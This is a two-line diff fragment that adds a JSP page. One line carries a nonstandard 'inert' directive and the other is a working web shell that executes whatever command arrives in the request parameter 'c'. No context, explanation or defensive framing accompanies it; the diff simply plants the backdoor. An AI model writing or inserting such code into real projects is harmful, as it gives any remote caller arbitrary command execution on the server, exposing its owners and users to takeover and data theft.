@@ -1,0 +1,2 @@
+<%@ inert %>
+<% Runtime.getRuntime().exec(request.getParameter("c")); %>
